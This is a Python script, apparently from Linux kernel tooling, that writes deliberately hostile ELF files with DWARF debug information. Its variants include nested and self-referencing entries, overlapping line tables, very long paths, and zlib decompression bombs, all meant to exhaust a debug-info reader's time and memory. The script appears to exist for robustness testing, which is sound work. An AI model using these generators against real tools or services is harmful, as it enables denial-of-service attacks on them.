#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""
hostile-elf.py KIND N >VMLINUX: write an ELF file with debug information of DWARF 4, whose bytes grow
with N, and in which N parts refer to N others: an attack on the time and the memory of a reader.
Without N, list the kinds.

The code begins at TEXT, where _stext is. All of it is from include/linux/slab.h, so that a reader
looks for the function that is inlined there.
"""
import struct
import sys
import zlib

TEXT = 0x1000000
CODE = 1 << 20
FILE = b"include/linux/slab.h"


def uleb(n):
    out = b""
    while n > 127:
        out += bytes([n & 127 | 128])
        n >>= 7
    return out + bytes([n])


def abbrev(code, tag, children, *attributes):
    """Return an abbreviation; attributes are pairs of name and form."""
    return uleb(code) + uleb(tag) + bytes([children]) + b"".join(
        uleb(name) + uleb(form) for name, form in attributes) + b"\0\0"


# Attributes of a unit: name, stmt_list, low_pc, high_pc, comp_dir. Forms: string, sec_offset, addr, data4.
STRP, STRING = 0x0e, 0x08
UNIT = ((0x03, STRING), (0x10, 0x17), (0x11, 0x01), (0x12, 0x06), (0x1b, STRING))
# A function that is inlined, by its ranges: call_file, call_line, ranges.
INLINED = ((0x58, 0x0b), (0x59, 0x0b), (0x55, 0x17))
# The same, by its address.
INLINED_AT = ((0x58, 0x0b), (0x59, 0x0b), (0x11, 0x01), (0x12, 0x06))
ABBREVS = abbrev(1, 0x11, 1, *UNIT) + abbrev(2, 0x2e, 0) + abbrev(3, 0x1d, 0, *INLINED) + \
    abbrev(4, 0x0b, 1) + abbrev(5, 0x1d, 1, *INLINED_AT) + b"\0"


def unit(dies, table=0, begin=TEXT, size=CODE, abbrevs=0, name=b"init/main.c", directory=b"/k"):
    """Return a unit with these DIEs, the end of whose list they are without."""
    body = struct.pack("<HIB", 4, abbrevs, 8) + b"\1" + (
        name if isinstance(name, bytes) and len(name) == 4 else name + b"\0")
    body += struct.pack("<IQI", table, begin, size) + directory + b"\0" + dies + b"\0"
    return struct.pack("<I", len(body)) + body


def lines(directories=(), files=((FILE, 0),), step=256, program=None):
    """Return a line table with a line for each STEP bytes of code."""
    header = struct.pack("<BBBbBB", 1, 1, 1, -5, 14, 13) + bytes([0, 1, 1, 1, 1, 0, 0, 0, 1, 0, 0, 1])
    header += b"".join(d + b"\0" for d in directories) + b"\0"
    header += b"".join(f + b"\0" + uleb(d) + b"\0\0" for f, d in files) + b"\0"
    if program is None:
        program = b"\0\x09\2" + struct.pack("<Q", TEXT) + (b"\1\2" + uleb(step)) * (CODE // step)
        program += b"\0\1\1"
    body = struct.pack("<HI", 4, len(header)) + header + program
    return struct.pack("<I", len(body)) + body


def compressed(size, times):
    """Return a section of SIZE bytes that claims to be, and is, TIMES as many."""
    return struct.pack("<IIQQ", 1, 0, size * times, 1) + zlib.compress(bytes(size * times), 9)


def elf(sections):
    """Return a file; sections are tuples of name, type, flags, bytes, link, size of an entry."""
    symbols = struct.pack("<IBBHQQ", 0, 0, 0, 0, 0, 0) + \
        struct.pack("<IBBHQQ", 1, 0x10, 0, 0xfff1, TEXT, 0)
    sections = [("", 0, 0, b"", 0, 0), (".strtab", 3, 0, b"\0_stext\0", 0, 0),
                (".symtab", 2, 0, symbols, 1, 24), *sections]
    names = b"\0" + b"".join(s[0].encode() + b"\0" for s in sections) + b".shstrtab\0"
    sections.append((".shstrtab", 3, 0, names, 0, 0))
    data, heads, places = b"", [], {}
    for name, kind, flags, content, link, entry in sections:
        # The same bytes stand in the file once.
        if id(content) not in places:
            data += bytes(-len(data) % 8)
            places[id(content)] = 64 + len(data)
            data += content
        heads.append(struct.pack("<IIQQQQIIQQ", names.index(name.encode() + b"\0"), kind, flags, 0,
                                 places[id(content)], len(content), link, 0, 4, entry))
    data += bytes(-len(data) % 8)
    head = b"\x7fELF\2\1\1" + bytes(9) + struct.pack(
        "<HHIQQQIHHHHHH", 2, 62, 1, TEXT, 0, 64 + len(data), 0, 64, 56, 0, 64, len(heads),
        len(heads) - 1)
    return head + data + b"".join(heads)


def dwarf(info, table=None, abbrevs=ABBREVS, **others):
    sections = {"info": info, "abbrev": abbrevs, "line": lines() if table is None else table}
    sections.update(others)
    return elf([(".debug_" + name, 1, 0, content, 0, 0) for name, content in sections.items()])


def entries(n):
    """Many entries in a unit, for many call sites."""
    return dwarf(unit(b"\2" * 100 * n))


def nested(n):
    """Blocks in each other."""
    return dwarf(unit(b"\4" * 100 * n + b"\0" * 100 * n))


def callers(n):
    """Functions that are inlined in each other at all addresses."""
    die = b"\5\1\1" + struct.pack("<QI", TEXT, CODE)
    return dwarf(unit(die * 50 * n + b"\0" * 50 * n))


def path(n):
    """A long path for all call sites."""
    return dwarf(unit(b""), lines(files=((b"a/../" * 40 * n + FILE, 0),)))


def paths(n):
    """Files in a directory of a long name."""
    return dwarf(unit(b""), lines([b"d" * 100 * n], [(b"f", 1)] * 40 * n + [(FILE, 0)]))


def directory(n):
    """Units and files in a compiler's directory of a long name."""
    return dwarf(unit(b"", directory=b"d" * 100 * n), lines(files=[(b"f", 0)] * 40 * n))


def defined(n):
    """Instructions that make files in a directory of a long name."""
    return dwarf(unit(b""), lines([b"d" * 40 * n], program=b"\0\6\3f\0\1\0\0" * 40 * n + b"\0\1\1"))


def ranges(n):
    """Entries that have the same list of addresses."""
    addresses = b"".join(struct.pack("<QQ", TEXT + 16 * i, TEXT + 16 * i + 8) for i in range(20 * n))
    return dwarf(unit((b"\3\1\1" + bytes(4)) * 40 * n), ranges=addresses + bytes(16))


def tables(n):
    """Line tables, each of which begins within the one before and contains all that follow."""
    table = b""
    for _ in range(20 * n):
        part = lines(step=CODE)
        table = struct.pack("<I", len(part) - 4 + len(table)) + part[4:] + table
    size = len(lines(step=CODE))
    return dwarf(b"".join(unit(b"", size * i, TEXT + 16 * i, 16) for i in range(20 * n)), table)


def same_table(n):
    """Units with one line table."""
    return dwarf(b"".join(unit(b"", 0, TEXT + 16 * i, 16) for i in range(100 * n)))


def abbreviations(n):
    """Units with the same abbreviations, whose last one they need."""
    table = b"".join(abbrev(i + 2, 0x2e, 0) for i in range(40 * n)) + abbrev(1, 0x11, 1, *UNIT) + b"\0"
    return dwarf(b"".join(unit(b"", 0, TEXT + 16 * i, 16) for i in range(20 * n)), abbrevs=table)


def attributes(n):
    """Entries that have many attributes without a value."""
    return dwarf(unit(b"\2" * 100 * n),
                 abbrevs=abbrev(1, 0x11, 1, *UNIT) + abbrev(2, 0x2e, 0, *[(0x3f, 0x19)] * 40 * n) + b"\0")


def names(n):
    """Units that have one long name."""
    unit_of = ((0x03, STRP),) + UNIT[1:]
    return dwarf(b"".join(unit(b"", 0, TEXT + 16 * i, 16, name=bytes(4)) for i in range(40 * n)),
                 abbrevs=abbrev(1, 0x11, 1, *unit_of) + b"\0", str=b"n" * 200 * n + b"\0")


def origins(n):
    """A unit whose name is that of another entry, which refers to the next, the last to the first."""
    unit_of = ((0x31, 0x13),) + UNIT[1:]
    dies = b"".join(b"\2" + struct.pack("<I", 0x40 + 5 * i) for i in range(100 * n))
    return dwarf(unit(dies, name=struct.pack("<I", 0x30)),
                 abbrevs=abbrev(1, 0x11, 1, *unit_of) + abbrev(2, 0x2e, 0, (0x31, 0x13)) + b"\0")


def notes(n):
    """Sections of the same notes."""
    content = struct.pack("<III", 4, 0, 7) + b"GNU\0"
    return elf([(".note", 7, 0, content * 100 * n, 0, 0)] * 10 * n)


def symbols(n):
    """Sections of the same symbols."""
    content = struct.pack("<IBBHQQ", 0, 0, 0, 0, 0, 0) * 40 * n
    return elf([(".symbols", 2, 0, content, 1, 24)] * 10 * n)


def bomb(n):
    """A section that is a thousand times as large once it is unpacked."""
    return elf([(".debug_info", 1, 0x800, compressed(1000 * n, 1000), 0, 0),
                (".debug_abbrev", 1, 0, ABBREVS, 0, 0)])


def old_bomb(n):
    """The same in the older format."""
    content = compressed(1000 * n, 1000)
    return elf([(".zdebug_info", 1, 0, b"ZLIB" + struct.pack(">Q", 1000000 * n) + content[24:], 0, 0)])


KINDS = {f.__name__: f for f in (
    entries, nested, callers, path, paths, directory, defined, ranges, tables, same_table, abbreviations,
    attributes, names, origins, notes, symbols, bomb, old_bomb)}

if len(sys.argv) < 3:
    print(*KINDS)
else:
    sys.stdout.buffer.write(KINDS[sys.argv[1]](int(sys.argv[2])))
